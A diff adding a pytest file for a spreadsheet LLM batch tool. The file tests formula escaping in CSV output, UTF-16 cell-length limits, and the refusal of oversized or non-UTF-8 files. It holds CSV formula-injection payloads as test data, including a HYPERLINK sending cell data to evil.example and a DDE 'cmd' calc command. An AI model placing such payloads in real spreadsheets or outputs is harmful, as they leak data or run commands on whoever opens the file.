@@ -1,0 +1,208 @@
+"""Issue 12, items 4-7 and 9: answers land as data on every output, and no workbook, CSV file
+or template can make promptbatch spend unbounded time or memory, or crash on a table.
+
+Each test runs the command a user types against the loopback fake LLM server and asserts what
+the user gets: the exact file, the exact message, exit code 2 and no request where a refusal
+is due."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+from click.testing import Result
+
+from promptbatch_sheets.sheet import CUT_MARKER, fit_cell
+from promptbatch_sheets.surfaces import CsvSurface, csvfile
+from promptbatch_sheets.surfaces.csvfile import CELL_LIMIT as CSV_CELL_LIMIT
+from promptbatch_sheets.surfaces.xlsx import EXCEL_CELL_LIMIT
+from tests.conftest import cli, fake_model
+from tests.fakes.llm_server import FakeLLMServer
+from tests.test_run_cli import chat_requests, write_csv
+
+
+def refused(result: Result, message: str) -> None:
+    """Exit 2 with exactly ``message`` after "Error: ", no traceback."""
+    assert result.exit_code == 2, result.output
+    assert " ".join(result.output.split()) == f"Error: {message}", result.output
+
+
+# --- 4. CSV answers are data --------------------------------------------------------------------
+
+HOSTILE = {
+    "a": "=1+1",
+    "b": "\t=1+1",
+    "c": ' =HYPERLINK("http://evil.example/?"&A1,"click")',
+    "d": "@SUM(A1)",
+    "e": "-2+3+cmd|' /C calc'!A0",
+    "f": "\r=WEBSERVICE(\"http://x\")",
+    "g": "-3",
+    "h": "  plain text, padded  \n",
+    "i": "\n+1+1",
+}
+
+
+def hostile_run(tmp_path: Path, llm: FakeLLMServer, *flags: str) -> bytes:
+    llm.config.answer = lambda prompt: HOSTILE[prompt]
+    book = write_csv(tmp_path / "b.csv", [["key"], *([k] for k in HOSTILE)])
+    out = tmp_path / "out.csv"
+    result = cli("run", str(book), "--template", "{{ key }}", "-o", str(out), *flags,
+                 *fake_model(llm))
+    assert result.exit_code == 0, result.output
+    return out.read_bytes()
+
+
+def test_csv_answers_that_would_open_as_formulas_get_a_quote(
+        tmp_path: Path, llm: FakeLLMServer) -> None:
+    written = hostile_run(tmp_path, llm)
+    assert written == (
+        b"key,response\r\n"
+        b"a,'=1+1\r\n"
+        b"b,'\t=1+1\r\n"  # not stripped into =1+1
+        b'c,"\' =HYPERLINK(""http://evil.example/?""&A1,""click"")"\r\n'
+        b"d,'@SUM(A1)\r\n"
+        b"e,'-2+3+cmd|' /C calc'!A0\r\n"
+        b"f,\"'\r=WEBSERVICE(\"\"http://x\"\")\"\r\n"
+        b"g,-3\r\n"  # a plain number runs nothing
+        b'h,"plain text, padded"\r\n'
+        b"i,\"'\n+1+1\"\r\n")
+    rows = list(csv.reader(io.StringIO(written.decode(), newline="")))
+    assert [r[1] for r in rows[1:]] == [
+        "'=1+1", "'\t=1+1", "' " + HOSTILE["c"][1:], "'@SUM(A1)", "'" + HOSTILE["e"],
+        "'" + HOSTILE["f"], "-3", "plain text, padded", "'\n+1+1"]
+
+
+def test_no_csv_escape_writes_answers_as_the_model_sent_them(
+        tmp_path: Path, llm: FakeLLMServer) -> None:
+    rows = list(csv.reader(io.StringIO(hostile_run(tmp_path, llm, "--no-csv-escape").decode(),
+                                       newline="")))
+    assert [r[1] for r in rows[1:]] == [
+        "=1+1", "\t=1+1", HOSTILE["c"], "@SUM(A1)", HOSTILE["e"], HOSTILE["f"], "-3",
+        "plain text, padded", "\n+1+1"]
+
+
+def test_csv_escape_setting_from_the_environment(tmp_path: Path, llm: FakeLLMServer,
+                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("PROMPTBATCH_CSV_ESCAPE", "false")
+    assert b"a,=1+1\r\n" in hostile_run(tmp_path, llm)
+
+
+def test_typed_fields_stay_numbers_and_text_fields_are_escaped(
+        tmp_path: Path, llm: FakeLLMServer) -> None:
+    llm.config.structured_answer = lambda prompt, schema: {"score": -3, "urgent": False,
+                                                           "note": "=1+1"}
+    book = write_csv(tmp_path / "b.csv", [["review"], ["bad"]])
+    out = tmp_path / "out.csv"
+    result = cli("run", str(book), "--template", "{{ review }}", "-o", str(out),
+                 "--fields", "score (number), urgent (boolean), note", *fake_model(llm))
+    assert result.exit_code == 0, result.output
+    assert out.read_bytes() == b"review,score,urgent,note\r\nbad,-3,FALSE,'=1+1\r\n"
+
+
+def test_xlsx_answers_keep_the_leading_tab_as_text(tmp_path: Path, llm: FakeLLMServer) -> None:
+    """Stripping ``\\t=1+1`` would make a formula of it wherever the text is pasted or exported;
+    in a workbook the answer is a text cell either way."""
+    llm.config.answer = lambda prompt: "\t=1+1 "
+    book = tmp_path / "b.xlsx"
+    wb = openpyxl.Workbook()
+    wb.active.append(["q"])
+    wb.active.append(["x"])
+    wb.save(book)
+    assert cli("run", str(book), "--template", "{{ q }}", *fake_model(llm)).exit_code == 0
+    cell = openpyxl.load_workbook(tmp_path / "b.promptbatch.xlsx").active["B2"]
+    assert (cell.value, cell.data_type) == ("\t=1+1", "s")
+
+
+# --- 5. cell limits in UTF-16 code units ---------------------------------------------------------
+
+
+def test_an_answer_of_emoji_is_cut_to_what_an_excel_cell_holds(
+        tmp_path: Path, llm: FakeLLMServer) -> None:
+    llm.config.answer = lambda prompt: "\U0001F600" * 20_000  # 40,000 UTF-16 code units
+    book = tmp_path / "b.xlsx"
+    wb = openpyxl.Workbook()
+    wb.active.append(["q"])
+    wb.active.append(["x"])
+    wb.save(book)
+    assert cli("run", str(book), "--template", "{{ q }}", *fake_model(llm)).exit_code == 0
+    with zipfile.ZipFile(tmp_path / "b.promptbatch.xlsx") as zf:
+        xml = zf.read("xl/worksheets/sheet1.xml").decode()
+    text = xml.split('<t xml:space="preserve">')[2].split("</t>")[0]
+    kept = text.count("\U0001F600")
+    assert text == "\U0001F600" * kept + CUT_MARKER.format(n=20_000 - kept)
+    assert EXCEL_CELL_LIMIT - 1 <= len(text.encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT
+
+
+@pytest.mark.parametrize("limit", [32_767, 50_000])
+def test_fit_cell_counts_utf16_units_and_never_splits_a_pair(limit: int) -> None:
+    for text in ("\U0001F600" * limit, "a" + "\U0001F600" * limit, "é" * (limit + 1)):
+        cut = fit_cell(text, limit)
+        assert len(cut.encode("utf-16-le")) // 2 <= limit
+        assert cut.encode("utf-16-le").decode("utf-16-le") == cut  # no lone half
+        kept = cut[:cut.index(" [... cut:")]
+        assert text.startswith(kept)
+        assert cut.endswith(CUT_MARKER.format(n=len(text) - len(kept)))
+    assert fit_cell("\U0001F600" * (limit // 2), limit) == "\U0001F600" * (limit // 2)
+
+
+def test_a_lone_surrogate_in_an_answer_does_not_break_the_save(tmp_path: Path) -> None:
+    """JSON can carry half a surrogate pair (``"\\ud83d"``); neither UTF-8 nor XML can."""
+    book = write_csv(tmp_path / "b.csv", [["q"], ["x"]])
+    surface = CsvSurface(book)
+    surface.read()
+    surface.write([(0, 1, "response"), (1, 1, "broken \ud83d emoji")])
+    surface.close()
+    assert surface.output.read_bytes() == b"q,response\r\nx,broken  emoji\r\n"
+
+
+# --- 7. CSV files: bounded cells, rows and bytes -------------------------------------------------
+
+
+def test_a_csv_cell_longer_than_a_cell_may_be_is_refused_by_name(
+        tmp_path: Path, llm: FakeLLMServer) -> None:
+    book = write_csv(tmp_path / "b.csv", [["q", "text"], ["x", "short"], ["y", "z" * 10**7]])
+    result = cli("run", str(book), "--template", "{{ text }}", *fake_model(llm))
+    refused(result, "Cell 'b'!B3 (line 3) holds 10,000,000 characters; a cell may hold "
+                    "200,000. Shorten it, or split its text over several rows.")
+    assert chat_requests(llm) == []
+    assert not (tmp_path / "b.promptbatch.csv").exists()
+
+
+def test_a_long_answer_is_cut_so_the_csv_reads_back(tmp_path: Path, llm: FakeLLMServer) -> None:
+    llm.config.answer = lambda prompt: "w" * 300_000
+    book = write_csv(tmp_path / "b.csv", [["q"], ["x"]])
+    out = tmp_path / "out.csv"
+    args = ["run", str(book), "--template", "{{ q }}", "-o", str(out), *fake_model(llm)]
+    assert cli(*args).exit_code == 0
+    answer = list(csv.reader(out.open(newline="", encoding="utf-8")))[1][1]
+    assert len(answer) == CSV_CELL_LIMIT
+    assert answer.endswith(CUT_MARKER.format(n=300_000 - answer.count("w")))
+    again = cli("run", str(out), "--template", "{{ q }}", *fake_model(llm))
+    assert again.exit_code == 0, again.output
+    assert "nothing to send" in again.output and len(chat_requests(llm)) == 1
+
+
+def test_csv_files_past_the_row_and_size_bounds_are_refused(
+        tmp_path: Path, llm: FakeLLMServer, monkeypatch: pytest.MonkeyPatch) -> None:
+    book = write_csv(tmp_path / "b.csv", [["q"], *([str(i)] for i in range(20))])
+    monkeypatch.setattr(csvfile, "MAX_ROWS", 10)
+    refused(cli("run", str(book), "--template", "{{ q }}", *fake_model(llm)),
+            f"{book} has more than 10 rows, more than a spreadsheet holds. Split it into "
+            "smaller files and run each.")
+    monkeypatch.setattr(csvfile, "MAX_CSV_BYTES", 2**20)
+    book.write_text("q\n" + "x" * 2**21 + "\n", encoding="utf-8")
+    refused(cli("run", str(book), "--template", "{{ q }}", *fake_model(llm)),
+            f"{book} is 2 MB; promptbatch reads CSV files up to 1 MB. Split it into smaller "
+            "files and run each.")
+    assert chat_requests(llm) == []
+
+
+def test_a_csv_file_that_is_not_utf8_names_the_line(tmp_path: Path) -> None:
+    book = tmp_path / "b.csv"
+    book.write_bytes(b"q\n" + b"ok\n" * 5000 + b"caf\xe9\n")
+    refused(cli("preview", str(book), "--template", "{{ q }}"),
+            f"{book} is not UTF-8 text (line 5002). Save it as 'CSV UTF-8' and try again.")
